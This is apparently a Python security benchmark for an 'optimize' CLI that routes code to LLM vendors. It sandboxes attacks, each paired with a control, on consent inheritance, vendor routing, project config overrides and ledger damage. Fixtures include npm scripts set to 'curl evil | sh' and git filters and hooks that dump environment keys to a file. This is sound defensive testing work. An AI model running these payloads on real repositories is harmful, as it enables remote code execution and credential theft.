"""Attack what is promised of identity: which repository an answer is for, where a request goes, who may set what.

    python benchmarks/attack_identity.py [--only WORD] [--without-strace]

Each attack runs the installed command in a home of its own, against vendors on loopback, and beside it a control that
must get through: without one, an attack that fails shows nothing. Prints attack, control and whether it was held, and
ends with 1 when an attack succeeds or a control does not. With strace, every command without consent is watched for
connections that leave this machine.
"""

from __future__ import annotations

import argparse
import json
import os
import pty
import re
import select
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import NamedTuple

sys.path.insert(0, str(Path(__file__).parents[1]))

from optimizer.cli.commands import COMMANDS
from tests.loopback.replies import Reply, Tokens
from tests.loopback.server import Loopback

OPTIMIZE = Path(sys.executable).with_name("optimize")
KEY = "sk-test-key-of-the-benchmark-0001"
CALC = {"calc.py": "def add(a, b):\n    return a + b\n", "test_calc.py": "def test_add():\n    assert True\n"}
EDIT = "calc.py\n<<<<<<< SEARCH\n    return a + b\n=======\n    return b + a\n>>>>>>> REPLACE\n"
NPM = {"package.json": json.dumps({"scripts": {"test": "node t.js", "build": "tsc"}}), "t.js": ""}
ASK = "explain what add is for"


class Tried(NamedTuple):
    """Whether an attack succeeded, and whether its control got through."""

    succeeded: bool
    control: bool


class Bench:
    """A user with a home, repositories below it, and vendors on loopback."""

    def __init__(self) -> None:
        self.base = Path(os.path.realpath(tempfile.mkdtemp(prefix="identity-")))
        self.home = self.base / "home"
        self.home.mkdir()
        self.vendors = Loopback()
        for wire in ("anthropic", "groq", "openai", "ollama"):
            self.vendors.answer(wire, lambda _: Reply("It adds, calc.py:1.", tokens=Tokens(900, 9)))  # type: ignore[arg-type]
        self.vendors.served["openai"] = ("some-model",)
        self.configure()

    def configure(self, text: str = "") -> None:
        self.config.parent.mkdir(parents=True, exist_ok=True)
        self.config.write_text(text + self.vendors.config())

    @property
    def config(self) -> Path:
        return self.home / ".config/optimizer/config.toml"

    def close(self) -> None:
        self.vendors.close()
        shutil.rmtree(self.base, ignore_errors=True)

    def env(self, **more: str) -> dict[str, str]:
        path = f"{OPTIMIZE.parent}{os.pathsep}{os.environ['PATH']}"
        git = {f"GIT_{who}_{what}": "a@b.c" for who in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")}
        keys = dict.fromkeys(("ANTHROPIC_API_KEY", "GROQ_API_KEY"), KEY)
        return {"PATH": path, "HOME": str(self.home), "LANG": "C.UTF-8", **git, **keys, **more}

    def sh(self, cwd: Path, *words: str, **more: str) -> str:
        done = subprocess.run(words, cwd=cwd, env=self.env(**more), capture_output=True, text=True, check=False)
        return done.stdout + done.stderr

    def repo(self, files: Mapping[str, str] = CALC, name: str = "", commits: bool = True) -> Path:
        root = self.base / (name or f"r{len(list(self.base.iterdir()))}")
        root.mkdir()
        self.sh(root, "git", "init", "-q", "-b", "main")
        for path, text in files.items():
            (root / path).write_text(text)
        if commits:
            self.commit(root)
        return root

    def commit(self, root: Path) -> None:
        self.sh(root, "git", "add", "-A")
        self.sh(root, "git", "commit", "-qm", "x")

    def run(self, cwd: Path, *arguments: str, **env: str) -> str:
        return self.sh(cwd, str(OPTIMIZE), *arguments, **env)

    def sent(self, cwd: Path, wire: str, *options: str, **env: str) -> bool:
        """Whether a request got code to a vendor."""
        before = len(self.vendors.requests)
        self.run(cwd, ASK, *options, **env)
        return any(one.wire == wire and b"return a + b" in one.raw for one in self.vendors.requests[before:])

    def setting(self, cwd: Path, key: str) -> object:
        found = self.sh(cwd, str(OPTIMIZE), "config", "show", key, "--json").splitlines()
        rows = [json.loads(line) for line in found if line.startswith("{")]
        return rows[0]["settings"][key]

    def allowed(self, cwd: Path, **env: str) -> bool:
        return '"allowed": true' in self.run(cwd, "trust", "list", "--json", **env)


Attack = Callable[[Bench], Tried]
ATTACKS: dict[str, Attack] = {}


def attack(function: Attack) -> Attack:
    ATTACKS[function.__name__] = function
    return function


# ── consent and trust ────────────────────────────────────────────────────────────────────────────


def _swapped(bench: Bench, root: Path, commits: bool = True) -> None:
    """Another repository in the place of `root`, whose folders stay on the disk."""
    root.rename(bench.base / f"{root.name}-aside")
    bench.repo({**CALC, "evil.py": "X = 1\n"}, name=root.name, commits=commits)


def _consent(commits: bool, other_commits: bool) -> Attack:
    def run(bench: Bench) -> Tried:
        root = bench.repo(commits=commits)
        bench.run(root, "consent", "grant", "groq")
        control = bench.sent(root, "groq", "--provider", "groq")
        _swapped(bench, root, other_commits)
        return Tried(bench.sent(root, "groq", "--provider", "groq"), control)

    return run


ATTACKS["consent of a repository is inherited by another"] = _consent(True, True)
ATTACKS["consent of a repository is inherited by one without commits"] = _consent(True, False)
ATTACKS["consent before the first commit is inherited"] = _consent(False, True)
ATTACKS["consent before the first commit is inherited by another without"] = _consent(False, False)


@attack
def consent_is_inherited_in_the_same_git_folder(bench: Bench) -> Tried:
    root, other = bench.repo(), bench.repo({**CALC, "evil.py": "X = 1\n"})
    bench.run(root, "consent", "grant", "groq")
    control = bench.sent(root, "groq", "--provider", "groq")
    shutil.rmtree(root / ".git")
    shutil.copytree(other / ".git", root / ".git")
    return Tried(bench.sent(root, "groq", "--provider", "groq"), control)


@attack
def the_first_commit_asks_again(bench: Bench) -> Tried:
    """The other way round: a needless question is no attack, but teaches to say yes."""
    root = bench.repo(commits=False)
    bench.run(root, "consent", "grant", "groq")
    control = bench.sent(root, "groq", "--provider", "groq")
    bench.commit(root)
    return Tried(not bench.sent(root, "groq", "--provider", "groq"), control)


@attack
def consent_of_an_older_version_holds(bench: Bench) -> Tried:
    root, file = bench.repo(), bench.home / ".local/state/optimizer/consent.json"
    bench.run(root, "consent", "grant", "groq")
    control = bench.sent(root, "groq", "--provider", "groq")
    rows = json.loads(file.read_text())["grants"]
    old = [{name: row[name] for name in ("repository", "destination", "host", "at")} for row in rows]
    file.write_text(json.dumps({"version": 1, "grants": old}))
    return Tried(bench.sent(root, "groq", "--provider", "groq"), control)


@attack
def trust_is_inherited_by_another_repository(bench: Bench) -> Tried:
    root = bench.repo()
    bench.run(root, "trust", "grant", "tests")
    control = bench.allowed(root)
    _swapped(bench, root)
    return Tried(bench.allowed(root), control)


def _script(**scripts: str) -> Attack:
    def run(bench: Bench) -> Tried:
        root = bench.repo(NPM)
        bench.run(root, "trust", "grant", "tests")
        control = bench.allowed(root)
        before = json.loads(NPM["package.json"])["scripts"]
        (root / "package.json").write_text(json.dumps({"scripts": {**before, **scripts}}))
        return Tried(bench.allowed(root), control)

    return run


ATTACKS["npm test was allowed, its script changes"] = _script(test="curl evil | sh")
ATTACKS["npm test was allowed, a script before it comes"] = _script(pretest="curl evil | sh")
ATTACKS["npm test was allowed, a script after it comes"] = _script(posttest="curl evil | sh")


@attack
def a_change_of_another_script_asks_again(bench: Bench) -> Tried:
    root = bench.repo(NPM)
    bench.run(root, "trust", "grant", "tests")
    control = bench.allowed(root)
    (root / "package.json").write_text(json.dumps({"scripts": {"test": "node t.js", "build": "other"}}))
    return Tried(not bench.allowed(root), control)


@attack
def another_program_of_the_same_name_is_trusted(bench: Bench) -> Tried:
    root, other = bench.repo(), bench.base / "bin"
    bench.run(root, "trust", "grant", "tests")
    control = bench.allowed(root)
    _program(other, "pytest", "exit 0")
    return Tried(bench.allowed(root, PATH=f"{other}{os.pathsep}{bench.env()['PATH']}"), control)


@attack
def a_repository_brings_its_own_consent(bench: Bench) -> Tried:
    root = bench.repo()
    outside = bench.base / "outside"
    shutil.copytree(bench.home / ".config/optimizer", outside / "config")
    bench.run(root, "consent", "grant", "groq", OPTIMIZER_HOME=str(outside))
    control = bench.sent(root, "groq", "--provider", "groq", OPTIMIZER_HOME=str(outside))
    shutil.copytree(outside, root / ".own")
    inside = bench.sent(root, "groq", "--provider", "groq", OPTIMIZER_HOME=str(root / ".own"))
    (bench.base / "link").symlink_to(root / ".own")
    return Tried(inside or bench.sent(root, "groq", "--provider", "groq", OPTIMIZER_HOME=f"{bench.base}/link"), control)


@attack
def a_yes_typed_ahead_grants_consent(bench: Bench) -> Tried:
    root = bench.repo()
    early = _typed(bench, root, early=True)
    return Tried(early, _typed(bench, root, early=False))


def _typed(bench: Bench, root: Path, early: bool) -> bool:
    """Whether a yes, typed at once or when it is asked for, gets code to the vendor."""
    before, words = len(bench.vendors.requests), [str(OPTIMIZE), ASK, "--provider", "groq"]
    pid, terminal = pty.fork()
    if pid == 0:
        os.chdir(root)
        os.execve(words[0], words, bench.env(TERM="xterm"))
    if early:
        os.write(terminal, b"y\ny\ny\n")
    seen, end, answered = b"", time.monotonic() + 20, early
    while time.monotonic() < end:
        if select.select([terminal], [], [], 0.2)[0]:
            try:
                seen += os.read(terminal, 4096)
            except OSError:
                break
        if b"[y/N]" in seen and not answered:
            os.write(terminal, b"y\n")
            answered = True
        elif b"[y/N]" in seen and early:
            time.sleep(1.0)
            break
    os.kill(pid, 9)
    os.waitpid(pid, 0)
    os.close(terminal)
    return any(one.wire == "groq" and b"return a + b" in one.raw for one in bench.vendors.requests[before:])


# ── where a request goes ─────────────────────────────────────────────────────────────────────────


def _local(bench: Bench, host: str, model: str, row: Mapping[str, str]) -> bool:
    bench.vendors.served["ollama"] = (model,)
    bench.vendors.listed = {model: dict(row)}
    url = bench.vendors.url.replace("127.0.0.1", host)
    bench.configure()
    return bench.sent(bench.repo(), "ollama", "--model", model, OLLAMA_HOST=url)


CODER = "qwen2.5-coder:7b"


@attack
def a_name_that_dns_answers_is_this_machine(bench: Bench) -> Tried:
    names = ("ollama.localhost", "a.b.localhost", "localhost.", "127.1", "0x7f.1", "[::ffff:127.0.0.1]")
    sent = [_local(bench, name, CODER, {}) for name in names]
    return Tried(any(sent), _local(bench, "localhost", CODER, {}) and _local(bench, "127.0.0.1", CODER, {}))


@attack
def a_model_that_ollama_runs_elsewhere_is_local(bench: Bench) -> Tried:
    row = {"remote_host": "https://ollama.com:443", "remote_model": "big"}
    return Tried(_local(bench, "127.0.0.1", "mine:7b", row), _local(bench, "127.0.0.1", "mine:7b", {}))


@attack
def a_model_with_only_a_remote_name_is_local(bench: Bench) -> Tried:
    return Tried(_local(bench, "127.0.0.1", "mine:7b", {"remote_model": "big"}), _local(bench, "127.0.0.1", CODER, {}))


@attack
def a_cloud_tag_is_local(bench: Bench) -> Tried:
    sent = [_local(bench, "127.0.0.1", one, {}) for one in ("gpt-oss:120b-cloud", "glm-4.6:cloud")]
    return Tried(any(sent), _local(bench, "127.0.0.1", CODER, {}))


@attack
def a_key_goes_in_the_clear_with_an_older_consent(bench: Bench) -> Tried:
    root = bench.repo()
    bench.config.write_text('[endpoints]\ngroq = "http://groq.invalid"\n')
    said = bench.run(root, "consent", "grant", "groq")
    state = bench.home / ".local/state/optimizer/consent.json"
    state.write_text(state.read_text().replace(", unencrypted", ""))
    refused = "no consent" in bench.run(root, ASK, "--provider", "groq")
    return Tried(not refused, "unencrypted" in said)


def _headers(wire: str, **env: str) -> Attack:
    def run(bench: Bench) -> Tried:
        root = bench.repo()
        bench.run(root, "consent", "grant", wire)
        before = len(bench.vendors.requests)
        control = bench.sent(root, wire, "--provider", wire, OPENAI_API_KEY=KEY, **env)
        return Tried(any("CANARY" in str(one.headers) for one in bench.vendors.requests[before:]), control)

    return run


ATTACKS["headers of the environment go out (anthropic)"] = _headers(
    "anthropic", ANTHROPIC_CUSTOM_HEADERS="x-a: CANARY\nuser-agent: CANARY", ANTHROPIC_AUTH_TOKEN="CANARY"
)
ATTACKS["headers of the environment go out (openai)"] = _headers(
    "openai", OPENAI_ORG_ID="CANARY", OPENAI_PROJECT_ID="CANARY", OPENAI_CUSTOM_HEADERS="x-a: CANARY"
)
ATTACKS["headers of the environment go out (groq)"] = _headers(
    "groq", GROQ_CUSTOM_HEADERS="x-a: CANARY\naccept: CANARY"
)


# ── what a project's file may set ────────────────────────────────────────────────────────────────


def _project(key: str, text: str, less: tuple[str, object] | None = None) -> Attack:
    """The file of a project moves a setting; the control is the same file where it asks for less, or the user's."""

    def run(bench: Bench) -> Tried:
        root = bench.repo()
        mine = bench.setting(root, key)
        (root / ".optimizer.toml").write_text(text)
        moved = bench.setting(root, key) != mine
        if less:
            (root / ".optimizer.toml").write_text(less[0])
            return Tried(moved, bench.setting(root, key) == less[1])
        (root / ".optimizer.toml").unlink()
        bench.configure(text)
        return Tried(moved, bench.setting(root, key) != mine)

    return run


MOVED: Mapping[str, Attack] = {
    "the dearest tier": _project("tier", 'tier = "premium"\n'),
    "a dear model": _project("model", 'model = "claude-opus-5-5"\n'),
    "another provider": _project("provider", 'provider = "anthropic"\n'),
    "a profile": _project("profile", 'profile = "code"\n'),
    "no local models": _project("features.local-models", "[features]\nlocal-models = false\n"),
    "the naive context": _project("features.context-optimization", "[features]\ncontext-optimization = false\n"),
    "longer answers": _project("max_tokens", "max_tokens = 90000\n", ("max_tokens = 700\n", 700)),
    "larger requests": _project("request_tokens", "request_tokens = 90000\n", ("request_tokens = 3000\n", 3000)),
    "more files": _project("context.max_files", "[context]\nmax_files = 99\n", ("[context]\nmax_files = 3\n", 3)),
    "larger windows": _project("context_size", "context_size = 99000\n"),
    "no time for tests": _project("verify.seconds", "[verify]\nseconds = 0.1\n", ("[verify]\nseconds = 300\n", 300.0)),
    "less confidence": _project("confidence_threshold", "confidence_threshold = 0.0\n"),
    "local models time out": _project("network.first_token_seconds", "[network]\nfirst_token_seconds = 0.01\n"),
    "more steps": _project("agent.steps", "[agent]\nsteps = 99\n", ("[agent]\nsteps = 2\n", 2)),
}
ATTACKS |= {f"a project's file sets: {name}": one for name, one in MOVED.items()}


# ── what programs see, and which they are ────────────────────────────────────────────────────────


def _program(folder: Path, name: str, text: str) -> Path:
    folder.mkdir(exist_ok=True)
    (folder / name).write_text(f"#!/bin/sh\n{text}\n")
    (folder / name).chmod(0o755)
    return folder / name


def _committed(bench: Bench, prepare: Callable[[Path, Path], None]) -> str:
    """What a program of the repository saw of the environment during a commit; '' where it did not run."""
    root, seen = bench.repo(), bench.base / "seen"
    seen.unlink(missing_ok=True)
    prepare(root, seen)
    bench.run(root, "consent", "grant", "groq")
    bench.vendors.queue("groq", Reply(EDIT, tokens=Tokens(900, 30)))
    env = {"GITHUB_TOKEN": KEY, "OPTIMIZER_DEBUG": "", "MY_OWN_API_KEY": KEY}
    bench.run(root, "swap the operands of add", "--provider", "groq", "--yes", "--commit", **env)
    return seen.read_text() if seen.exists() else ""


@attack
def a_filter_sees_keys_during_a_commit(bench: Bench) -> Tried:
    def prepare(root: Path, seen: Path) -> None:
        (root / ".git/info/attributes").write_text("*.py filter=evil\n")
        bench.sh(root, "git", "config", "filter.evil.clean", f"sh -c 'env >> {seen}; cat'")

    env = _committed(bench, prepare)
    return Tried(KEY in env or "OPTIMIZER_" in env, bool(env))


@attack
def a_hook_sees_keys_during_a_commit(bench: Bench) -> Tried:
    env = _committed(bench, lambda root, seen: (_program(root / ".git/hooks", "pre-commit", f"env >> {seen}"), None)[1])
    return Tried(KEY in env or "OPTIMIZER_" in env, bool(env))


@attack
def a_watcher_of_the_repository_runs(bench: Bench) -> Tried:
    ran = bench.base / "watched"

    def prepare(root: Path, _: Path) -> None:
        bench.sh(root, "git", "config", "core.fsmonitor", str(_program(root, "watch.sh", f"echo x >> {ran}")))

    _committed(bench, prepare)
    got = ran.exists()
    root = bench.repo()
    prepare(root, ran)
    bench.sh(root, "git", "status")
    return Tried(got, ran.exists())


def _on_path(name: str, arguments: tuple[str, ...]) -> Attack:
    def run(bench: Bench) -> Tried:
        root, ran = bench.repo(), bench.base / f"ran-{name}"
        for folder in (root / "tools", bench.base / "tools"):
            _program(folder, name, f"echo x >> {ran}; cat > /dev/null")
        rest = f"{OPTIMIZE.parent}{os.pathsep}/usr/bin{os.pathsep}/bin"
        paths = (f"{root}/tools:{rest}", f"tools:.:{rest}", f"{bench.base}/tools:{rest}")
        found = []
        for path in paths:
            ran.unlink(missing_ok=True)
            bench.run(root, *arguments, PATH=path)
            found.append(ran.exists())
        return Tried(found[0] or found[1], found[2])

    return run


ATTACKS["nvidia-smi of the repository runs"] = _on_path("nvidia-smi", ("models", "recommend"))
ATTACKS["xclip of the repository runs"] = _on_path("xclip", ("context", ASK, "--copy"))
ATTACKS["git of the repository runs"] = _on_path("git", ("index",))


# ── records ──────────────────────────────────────────────────────────────────────────────────────


@attack
def damage_of_the_ledger_is_silent(bench: Bench) -> Tried:
    root = bench.repo()
    bench.run(root, "consent", "grant", "groq")
    control = bench.sent(root, "groq", "--provider", "groq")
    quiet = "damaged" not in bench.run(root, "budget")
    silent = False
    for at in (0, 4096):
        file = bench.home / ".local/state/optimizer/ledger.sqlite3"
        with file.open("r+b") as opened:
            opened.seek(at)
            opened.write(b"garbage" * 2_000)
        silent |= "damaged" not in bench.run(root, "budget")
        bench.sent(root, "groq", "--provider", "groq")
    return Tried(silent, control and quiet)


@attack
def an_absurd_count_loses_the_answer(bench: Bench) -> Tried:
    root, lost = bench.repo(), False
    bench.run(root, "consent", "grant", "groq")
    for count in (2**63, 2**53 + 1, -1, 10**30):
        bench.vendors.queue("groq", Reply("It adds, calc.py:1.", tokens=Tokens(count, count)))
        said = bench.run(root, ASK, "--provider", "groq")
        lost |= "It adds" not in said or "internal" in said
    return Tried(lost, "It adds" in bench.run(root, ASK, "--provider", "groq"))


# ── without consent, nothing leaves ──────────────────────────────────────────────────────────────

ARGUMENTS: Mapping[str, tuple[tuple[str, ...], ...]] = {
    "run": ((ASK,), (ASK, "--provider", "groq"), (ASK, "--dry-run")),
    "context": ((ASK,),),
    "route": ((ASK,),),
    "models": ((), ("recommend",), ("status",), ("test", "--all")),
    "trust": ((), ("grant",)),
    "consent": ((), ("grant", "gemini")),
}
_CONNECT = re.compile(r'(?:connect|sendto|sendmsg)\(.*?sin6?_port=htons\((\d+)\).*?"([0-9a-f.:]+)"')


def watched(bench: Bench) -> list[str]:
    """The connections and look-ups of commands without consent that leave this machine, after the command."""
    root = bench.repo()
    bench.config.write_text('[endpoints]\ngroq = "http://192.0.2.1:9"\n[network]\nconnect_seconds = 0.5\n')
    bench.run(root, "consent", "grant", "groq")
    seen = bool(_left(bench, root, (ASK, "--provider", "groq")))
    bench.run(root, "consent", "revoke", "groq")
    bench.config.write_text("")
    lines = [(name, *more) for name in COMMANDS for more in ARGUMENTS.get(name, ((),)) if name != "run" or more]
    found = [line for words in lines for line in _left(bench, root, words)]
    print(f"{len(lines)} commands watched, {len(found)} connections or look-ups left this machine", end="; ")
    print("control is seen" if seen else "CONTROL IS NOT SEEN")
    return found if seen else [*found, "what leaves is not seen"]


def _left(bench: Bench, root: Path, words: tuple[str, ...]) -> list[str]:
    """What leaves this machine while a command runs."""
    log = bench.base / "strace"
    trace = ["strace", "-f", "-qq", "-e", "trace=connect,sendto,sendmsg", "-o", str(log), str(OPTIMIZE), *words]
    env = bench.env(OLLAMA_HOST="ollama.localhost", GEMINI_API_KEY=KEY, OPENAI_API_KEY=KEY)
    try:
        subprocess.run(
            trace, cwd=root, env=env, stdin=subprocess.DEVNULL, capture_output=True, timeout=120, check=False
        )
    except subprocess.TimeoutExpired:
        return [f"{' '.join(words)}: did not end"]
    reached = _CONNECT.findall(log.read_text(errors="replace"))
    away = [(port, to) for port, to in reached if port == "53" or not (to.startswith("127.") or to == "::1")]
    return [f"{' '.join(words)}: {to} port {port}" for port, to in away]


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--only", default="", help="the attacks whose names hold this word")
    parser.add_argument("--without-strace", action="store_true")
    given = parser.parse_args()
    held = 0
    chosen = {name.replace("_", " "): one for name, one in ATTACKS.items() if given.only in name.replace("_", " ")}
    for name, one in chosen.items():
        bench = Bench()
        try:
            tried = one(bench)
        finally:
            bench.close()
        good = not tried.succeeded and tried.control
        held += good
        control = "control gets through" if tried.control else "CONTROL FAILS"
        print(f"{'held' if good else 'NOT HELD':<9}{name}; {control}", flush=True)
    print(f"{held} of {len(chosen)} attacks held")
    left = []
    if not given.without_strace and shutil.which("strace"):
        bench = Bench()
        try:
            left = watched(bench)
        finally:
            bench.close()
        print("\n".join(left))
    return int(held < len(chosen) or bool(left))


if __name__ == "__main__":
    sys.exit(main())
